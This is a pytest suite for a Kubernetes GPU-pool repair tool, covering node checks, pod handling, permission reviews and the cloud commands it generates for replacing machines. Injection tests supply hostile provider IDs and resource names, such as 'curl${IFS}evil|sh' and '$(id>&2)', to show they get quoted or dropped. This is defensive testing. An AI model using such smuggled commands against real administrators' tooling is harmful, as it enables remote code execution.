"""What a repair sees of a node, tells of it, and asks rights for. The reports are the verifier's own."""

from __future__ import annotations

import datetime as dt
import shlex
from dataclasses import replace
from typing import Any, Final

import pytest

from gpu_pools.evidence.declared import declared
from gpu_pools.evidence.errors import EvidenceError
from gpu_pools.repairing import looking
from gpu_pools.repairing.looking import Looker, NoNodeError, being_changed
from gpu_pools.repairing.machine_replacement import commands
from gpu_pools.repairing.repair import Manner, Repair, RepairError
from gpu_pools.repairing.rights import Right, missing, needed
from gpu_pools.repairing.steps import begun
from gpu_pools.repairing.telling import found_text, plan_text
from gpu_pools.repairing.ways import APPS, Finding, Way, chosen
from gpu_pools.verifier.api import ApiError
from tests.evidence import fleets

PAUSED: Final = "paused-for-mig-change"
MANNER: Final = Manner(600, "stop", 3600, 900)


def pod(name: str, namespace: str = "default", owner: str = "", app: str = "", gpus: int = 0, **status: Any) -> dict[str, Any]:
    limits = {"nvidia.com/gpu": str(gpus)} if gpus else {}
    owners = [{"kind": owner, "name": "agents", "uid": f"agents-of-{namespace}", "controller": True}] if owner else []
    metadata = {"name": name, "namespace": namespace, "uid": f"uid-{name}", "labels": {"app": app}, "ownerReferences": owners}
    return {"metadata": metadata, "spec": {"containers": [{"resources": {"limits": limits}}]}, "status": status}


PODS: Final = [
    pod("trains", gpus=1),
    pod("web", owner="ReplicaSet"),
    pod("over", owner="Job", gpus=1, phase="Succeeded"),
    pod("log", owner="DaemonSet"),
    pod("plugin", "gpu-operator", "DaemonSet", "nvidia-device-plugin-daemonset"),
    pod("mig", "gpu-operator", "DaemonSet", "nvidia-mig-manager"),
    pod("validates", "gpu-operator", "", "x", gpus=1),
    pod("verifies", "gpu-pools-verifier", "DaemonSet"),
]


class Served:
    """A cluster that is read: the nodes of a fleet, and pods on each."""

    def __init__(self, fleet: fleets.Fleet, allowed: frozenset[str] = frozenset()) -> None:
        self.fleet, self.allowed, self.reviewed = fleet, allowed, []  # type: ignore[var-annotated]
        self.pods = PODS

    def get(self, path: str, **query: str) -> dict[str, Any]:
        if path == "/api/v1/pods":
            return {"items": self.pods}
        if path.endswith("/daemonsets/agents"):
            return {"metadata": {"uid": f"agents-of-{path.split('/')[5]}"}}
        if path == "/api/v1/nodes":
            key, _, value = query["labelSelector"].partition("=")
            return {"items": [node for node in self.fleet.nodes if node["metadata"]["labels"].get(key) == value]}
        for node in self.fleet.nodes:
            if path == f"/api/v1/nodes/{node['metadata']['name']}":
                return node
        raise ApiError(path, 404, "not found")

    def create(self, path: str, body: dict[str, Any]) -> dict[str, Any]:
        assert path == "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
        asked = body["spec"]["resourceAttributes"]
        self.reviewed.append(asked)
        return {"status": {"allowed": asked["verb"] in self.allowed}}

    def patch(self, path: str, body: dict[str, Any]) -> dict[str, Any]:
        raise AssertionError((path, body))

    def delete(self, path: str, uid: str) -> dict[str, Any]:
        raise AssertionError((path, uid))


@pytest.fixture(autouse=True)
def clock(monkeypatch: pytest.MonkeyPatch) -> None:
    """The moment of the fleet's reports."""

    class Now(dt.datetime):
        @classmethod
        def now(cls, tz: dt.tzinfo | None = None) -> dt.datetime:  # type: ignore[override]
            return fleets.NOW.astimezone(tz)

    class Module:
        datetime, UTC = Now, dt.UTC

    monkeypatch.setattr(looking, "dt", Module)


def looker(fleet: fleets.Fleet, name: str = "mig-0") -> Looker:
    return Looker(Served(fleet), name, "shop", declared(fleet.outputs), fleet.config_maps)


def test_a_node_that_is_proven_has_nothing_to_be_done() -> None:
    look = looker(fleets.fleet()).look()
    assert (look.pool, look.seen.proven, look.findings) == ("mig", True, ())
    assert chosen([one.cause for one in look.findings], replaced=False) == ()


def test_who_holds_gpus_who_is_beside_them_and_who_belongs_to_the_node() -> None:
    seen = looker(fleets.fleet()).look().seen
    assert [one.name for one in seen.holders] == ["trains"]
    assert [one.name for one in seen.others] == ["web", "validates"]


def test_the_verifier_starts_anew_at_last() -> None:
    look = looker(fleets.fleet()).look()

    def names(*ways: Way) -> list[str]:
        return [one["metadata"]["name"] for one in look.starting(ways, "gpu-pools-verifier")]

    assert names(Way.MIG, Way.PLUGIN) == ["mig", "plugin", "verifies"]
    assert names(Way.HAND) == ["verifies"]
    assert names(Way.REPLACE) == []


def _broken(fleet: fleets.Fleet, why: str) -> Looker:
    fleets.put_report(fleet.node("mig"), *fleets.broken("mig", "mig-0", why))
    return looker(fleet)


def test_what_a_report_says_decides() -> None:
    look = _broken(fleets.fleet(), "mig-layout").look()
    assert [one.cause for one in look.findings] == ["mig-layout"]
    assert look.seen.causes == ("mig-layout",)
    assert "GPU 0 (GPU-1): the layout is another one" in found_text(look)


def _mislabelled(fleet: fleets.Fleet, key: str = "nvidia.com/mig.config", value: str = "by-hand") -> Looker:
    (pool_plan,) = [one for one in fleets.PLAN.pools if one.name == "mig"]
    fleet.node("mig")["metadata"]["labels"] |= {**pool_plan.labels, key: value}
    fleets.put_report(fleet.node("mig"), *fleets.broken("mig", "mig-0", "label-other"))
    return looker(fleet)


def test_a_label_that_somebody_has_changed_is_set_as_the_deployed_expectation_says() -> None:
    fleet = fleets.fleet()
    (pool_plan,) = [one for one in fleets.PLAN.pools if one.name == "mig"]
    declared_value = pool_plan.labels["nvidia.com/mig.config"]
    look = _mislabelled(fleet).look()
    assert look.seen.labels == {"nvidia.com/mig.config": declared_value}
    assert chosen([one.cause for one in look.findings], replaced=False) == (Way.LABEL,)
    plan = plan_text(look, (Way.LABEL,), MANNER, [], looker(fleet).pool("mig"), ())
    assert f"its labels are set to the declared values: nvidia.com/mig.config={declared_value}" in plan


def test_an_expectation_that_somebody_has_changed_sets_no_labels() -> None:
    fleet = fleets.fleet()
    for data in fleet.config_maps.values():
        data.update({key: text.replace("all-", "evil-") + " " for key, text in data.items()})
    assert _mislabelled(fleet).look().seen.labels == {}


def test_what_follows_from_another_finding_has_no_remedy_of_its_own() -> None:
    look = _mislabelled(fleets.fleet()).look()
    first = look.findings[0]
    count = Finding("count-other", "nvidia.com/gpu", "another count", "Do something else.")
    text = found_text(replace(look, findings=(first, count)))
    assert text.count("remedy:") == 1
    assert f"follows from: {first.text}" in text
    assert found_text(replace(look, findings=(count,))).count("remedy: Do something else.") == 1


def test_a_silent_verifier_starts_anew_and_says_nothing_that_counts() -> None:
    fleet = fleets.fleet()
    fleets.aged(fleet.node("mig"), 4000)
    look = looker(fleet).look()
    assert look.seen.causes is None
    assert chosen([one.cause for one in look.findings], replaced=False) == (Way.VERIFIER,)


def test_a_kubelet_that_says_nothing_needs_a_hand_whatever_the_last_report_says() -> None:
    fleet = fleets.fleet()
    fleet.node("mig")["status"]["conditions"][0]["status"] = "Unknown"
    look = _broken(fleet, "mig-layout").look()
    assert Way.HAND in chosen([one.cause for one in look.findings], replaced=False)
    assert not look.seen.ready


@pytest.mark.parametrize(
    ("state", "seconds_ago", "paused", "hangs"),
    [("failed", 60, True, True), ("failed", 5, True, False), ("failed", 60, False, False), ("pending", 60, True, False)],
)
def test_what_mig_manager_hangs_in_is_read_off_the_labels(state: str, seconds_ago: int, paused: bool, hangs: bool) -> None:  # noqa: FBT001
    fleet = fleets.fleet()
    metadata = fleet.node("mig")["metadata"]
    metadata["labels"]["nvidia.com/mig.config.state"] = state
    metadata["labels"]["nvidia.com/gpu.deploy.device-plugin"] = PAUSED if paused else "true"
    time = fleets.text_of(fleets.NOW - dt.timedelta(seconds=seconds_ago))
    fields = {"f:metadata": {"f:labels": {"f:nvidia.com/mig.config.state": {}}}}
    metadata["managedFields"] = [{"manager": "m", "time": time, "fieldsV1": fields}]
    causes = [one.cause for one in _broken(fleet, "operand-missing").look().findings]
    assert (causes[0] == "mig-stuck") is hangs
    assert (chosen(causes, replaced=False) == (Way.MIG,)) is hangs


def test_a_node_of_nobody_and_one_that_is_not_there() -> None:
    with pytest.raises(EvidenceError, match="system is not a node of a pool of shop"):
        looker(fleets.fleet(), "system").look()
    with pytest.raises(NoNodeError):
        looker(fleets.fleet(), "nobody").look()


def test_a_node_in_its_turn_is_known_by_the_changer_s_mark() -> None:
    fleet = fleets.fleet()
    assert being_changed(fleet.node("mig")) == ""
    fleet.node("mig")["metadata"]["annotations"]["gpu-pools/change"] = '{"to": "x"}'
    assert being_changed(fleet.node("mig")) == '{"to": "x"}'


# --- pods of others ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("app", sorted(APPS.values()))
def test_a_label_makes_nobody_one_of_the_operator(app: str) -> None:
    """Attack: a tenant's pod with an operand's label, in a namespace before the operator's: its whole namespace was not drained,
    and the pod was deleted with the administrator's rights.
    """
    one = looker(fleets.fleet())
    tenant = [pod("x", "a-team", app=app, gpus=1), pod("owned", "a-team", "DaemonSet", app), pod("y", "a-team", gpus=1)]
    inside = [pod("bare", "gpu-operator", "", app)]
    one.api.pods = [*tenant, *inside, *PODS]  # type: ignore[attr-defined]
    look = one.look()
    assert [holder.name for holder in look.seen.holders] == ["x", "y", "trains"]
    for way in APPS:
        started = {item["metadata"]["name"] for item in look.starting((way,), "gpu-pools-verifier")}
        assert started <= {"plugin", "mig", "verifies"}
    assert one.living(look).operators == "gpu-operator"


def test_a_mark_starts_no_pods_of_others_anew() -> None:
    """Attack: the kubelet of a node writes the mark of a repair with uids of whatever pods the administrator is to delete."""
    fleet = fleets.fleet()
    mark = begun((Way.PLUGIN,), ("uid-trains", "uid-plugin", "uid-web"), looker(fleet).look().seen, "now")
    fleet.node("mig")["metadata"]["annotations"]["gpu-pools/repair"] = mark.text()
    assert looker(fleet).look().seen.starting == ("uid-plugin",)


def test_a_report_names_no_pods_of_others_as_stuck() -> None:
    """Attack: root on a node writes a report that says a tenant's pod is the operator's stuck one."""
    one = _broken(fleets.fleet(), "mig-layout")
    stuck = tuple(Finding("config-wedged", f"pod {name}", "", "") for name in ("default/trains", "gpu-operator/plugin"))
    look = replace(one.look(), findings=stuck)
    assert [item["metadata"]["name"] for item in look.starting((Way.POD,), "x")] == ["plugin"]


@pytest.mark.parametrize("count", ["1k", "two", None])
def test_no_amount_of_a_pod_ends_a_repair(count: object) -> None:
    """Attack: `nvidia.com/gpu: 1k` in a pod of the node ended the command with a traceback."""
    one = looker(fleets.fleet())
    odd = pod("odd", "tenant")
    odd["spec"]["containers"][0]["resources"]["limits"] = {"nvidia.com/gpu": count}
    one.api.pods = [odd, {"metadata": None}, *PODS]  # type: ignore[attr-defined]
    assert [holder.name for holder in one.look().seen.holders] == ["odd", "unknown", "trains"]


# --- told before it is done -------------------------------------------------------------------------------


def test_the_plan_names_pods_steps_and_what_is_left() -> None:
    one = _broken(fleets.fleet(), "mig-layout")
    look = one.look()
    starting = look.starting((Way.MIG,), "gpu-pools-verifier")
    text = plan_text(look, (Way.MIG,), MANNER, starting, one.pool("mig"), ())
    for words in ("it is cordoned", "default/trains (a bare pod)", "then it stops", "gpu-operator/mig", "it is uncordoned"):
        assert words in text
    assert "default/web" not in text, "it holds no GPU"
    assert text.index("gpu-operator/mig") < text.index("gpu-pools-verifier/verifies")


def test_a_cordon_of_others_is_told_to_stay() -> None:
    fleet = fleets.fleet()
    fleet.node("mig")["spec"] = {"unschedulable": True}
    one = _broken(fleet, "unhealthy")
    text = plan_text(one.look(), (Way.PLUGIN,), MANNER, (), one.pool("mig"), ())
    assert "it is cordoned already, and stays so" in text
    assert "it stays cordoned, as it was before" in text
    assert "are evicted" not in text


def test_the_rights_are_those_of_what_is_done() -> None:
    look = looker(fleets.fleet()).look()
    verifier = look.starting((Way.HAND,), "gpu-pools-verifier")
    assert needed(look, (Way.HAND,), verifier, deletes=False) == (
        Right("create", "pods/eviction", "default"),
        Right("create", "pods/eviction", "gpu-operator"),
        Right("delete", "pods", "gpu-pools-verifier"),
        Right("patch", "nodes"),
    )
    plugin = look.starting((Way.PLUGIN,), "gpu-pools-verifier")
    assert {str(one) for one in needed(look, (Way.PLUGIN,), plugin, deletes=True)} == {
        "delete pods in gpu-operator",
        "delete pods in gpu-pools-verifier",
        "patch nodes",
    }


def test_all_missing_rights_are_told_at_once() -> None:
    api = Served(fleets.fleet(), frozenset({"patch"}))
    rights = (Right("create", "pods/eviction", "default"), Right("patch", "nodes"), Right("delete", "pods", "x"))
    assert missing(api, rights) == (rights[0], rights[2])
    assert api.reviewed[0] == {"verb": "create", "resource": "pods", "subresource": "eviction", "namespace": "default"}


# --- machines ---------------------------------------------------------------------------------------------

AKS: Final = {
    "type": "azure-native:containerservice:AgentPool",
    "inputs": {"agentPoolName": "nb", "resourceName": "dev", "resourceGroupName": "rg", "enableAutoScaling": False},
}
GROUP: Final = {
    "type": "openstack:containerinfra/nodeGroup:NodeGroup",
    "inputs": {"name": "nb", "clusterId": "c-1", "nodeCount": 7},
    "ignoreChanges": ["nodeCount"],
}
AKS_NODE: Final = {"metadata": {"name": "aks-nb-vmss000001", "labels": {"kubernetes.azure.com/agentpool": "nb"}}}
SERVER: Final = "0b8d0c5e-5b0f-4c6e-9a53-6f0f5a3c1d2e"
SERVER_NODE: Final = {"metadata": {"name": "nb-1"}, "spec": {"providerID": f"openstack:///{SERVER}"}}


def test_the_commands_have_what_the_state_has() -> None:
    machine, again = commands("shop", [GROUP, AKS], "pool", AKS_NODE, [AKS_NODE])
    assert machine == (
        "az aks nodepool delete-machines --resource-group rg --cluster-name dev --name nb --machine-names aks-nb-vmss000001"
    )
    assert again.startswith("pulumi up --refresh --stack shop")
    scaled = {**AKS, "inputs": {**AKS["inputs"], "enableAutoScaling": True}}  # type: ignore[dict-item]
    assert len(commands("shop", [scaled], "pool", AKS_NODE, [AKS_NODE])) == 1, "the autoscaler brings another"


def test_a_magnum_group_that_took_another_s_place_is_found_by_what_its_nodes_say() -> None:
    called = {**GROUP, "inputs": {**GROUP["inputs"], "name": "nb-0a1b2c"}}  # type: ignore[dict-item]
    labels = {"magnum.openstack.org/nodegroup": "nb-0a1b2c"}
    node = {**SERVER_NODE, "metadata": {"name": "nb-1", "labels": labels}}
    _, _, resize = commands("shop", [GROUP, called], "nb", node, [node])
    assert "--nodegroup nb-0a1b2c " in resize


def test_the_number_of_a_magnum_group_is_not_the_state_s() -> None:
    name, show, resize = commands("shop", [AKS, GROUP], "nb", SERVER_NODE, [SERVER_NODE])
    assert name.startswith(f"openstack server show {SERVER} -f value -c name        # has to say nb-1: if it does not, stop")
    assert show.startswith("openstack coe nodegroup show c-1 nb -f value -c node_count")
    assert resize == f"openstack coe cluster resize --nodegroup nb --nodes-to-remove {SERVER} c-1 COUNT"
    assert "6" not in (show + resize).replace(SERVER, "")
    fixed = {**GROUP, "ignoreChanges": []}
    assert commands("shop", [fixed], "nb", SERVER_NODE, [SERVER_NODE])[-1].startswith("pulumi up --refresh")
    assert "openstack server show nb-1" in commands("shop", [fixed], "nb", {"metadata": {"name": "nb-1"}}, [])[0]


@pytest.mark.parametrize(
    "provider_id",
    [
        "openstack:///;curl${IFS}evil|sh;#",
        "openstack:///$(id>&2)",
        f"openstack:///{SERVER}\n; id",
        "openstack:///11111111-OTHER-SERVER",
        f"openstack:///{SERVER} {SERVER[:-1]}0",
        f"aws:///{SERVER}",
        "openstack:///--help",
    ],
)
def test_a_node_puts_no_words_into_the_commands_of_its_administrator(provider_id: str) -> None:
    """Attack: a kubelet registers its node with a provider id that is a shell command, or another machine's."""
    node = {**SERVER_NODE, "spec": {"providerID": provider_id}}
    first, _, resize, *_ = commands("shop", [GROUP], "nb", node, [node])
    assert first == "openstack server show nb-1 -f value -c id        # this is SERVER"
    assert resize == "openstack coe cluster resize --nodegroup nb --nodes-to-remove SERVER c-1 COUNT"


def test_a_node_that_says_it_is_another_one_of_the_cluster_is_not_believed() -> None:
    """Attack: a node registers with the provider id of another node of the cluster, which would be deleted in its place."""
    other = {"metadata": {"name": "nb-2"}, "spec": SERVER_NODE["spec"]}
    first, _, resize, *_ = commands("shop", [GROUP], "nb", SERVER_NODE, [SERVER_NODE, other])
    assert "this is SERVER" in first
    assert SERVER not in first + resize


def test_every_word_of_a_command_is_quoted() -> None:
    """Names of groups come from a cloud, and Azure takes brackets in those of resource groups."""
    odd = {**AKS, "inputs": {**AKS["inputs"], "resourceGroupName": "rg(1); id"}}  # type: ignore[dict-item]
    assert shlex.split(commands("$(id)", [odd], "pool", AKS_NODE, [])[0])[5] == "rg(1); id"
    assert "--stack '$(id)'" in commands("$(id)", [odd], "pool", AKS_NODE, [])[-1]
    group = {**GROUP, "inputs": {**GROUP["inputs"], "clusterId": "`id`"}}  # type: ignore[dict-item]
    assert all("'`id`'" in line for line in commands("shop", [group], "nb", SERVER_NODE, [])[1:3])


def test_a_machine_that_the_stack_does_not_have_is_its_owner_s() -> None:
    assert commands("shop", [AKS], "other", SERVER_NODE, []) == ()
    one = looker(fleets.fleet())
    assert "ask the cluster's owner" in plan_text(one.look(), (Way.REPLACE,), MANNER, (), one.pool("mig"), ())


# --- doing ------------------------------------------------------------------------------------------------


def test_a_node_that_goes_is_an_end_only_where_its_machine_is_replaced() -> None:
    gone = looker(fleets.fleet(), "nobody")
    assert Repair(gone, (Way.REPLACE,), MANNER, print).run() is False
    with pytest.raises(RepairError, match="is not there any more"):
        Repair(gone, (Way.PLUGIN,), MANNER, print).run()


class Busy(Served):
    """A node that others write to: its first writes meet another version of it."""

    def __init__(self, fleet: fleets.Fleet, conflicts: int, status: int = 409) -> None:
        super().__init__(fleet)
        self.left, self.status, self.written = conflicts, status, []  # type: ignore[var-annotated]

    def patch(self, path: str, body: dict[str, Any]) -> dict[str, Any]:
        if self.left:
            self.left -= 1
            raise ApiError(f"PATCH {path}", self.status, "the object has been modified")
        self.written.append(body)
        return body


@pytest.mark.parametrize(("conflicts", "status", "begins"), [(0, 409, True), (4, 409, True), (5, 409, False), (1, 403, False)])
def test_a_repair_begins_although_others_write_to_the_node(conflicts: int, status: int, *, begins: bool) -> None:
    fleet = fleets.fleet()
    fleet.node("mig")["metadata"]["resourceVersion"] = "1"
    served = Busy(fleet, conflicts, status)
    at = Looker(served, "mig-0", "shop", declared(fleet.outputs), fleet.config_maps)
    begun = Repair(at, (Way.PLUGIN,), Manner(1, "stop", 1, 1), lambda _: None)
    if begins:
        begun.begin()
        assert [one["spec"] for one in served.written] == [{"unschedulable": True}]
        return
    with pytest.raises(RepairError, match=r"Nothing was done\."):
        begun.begin()
    assert served.written == []
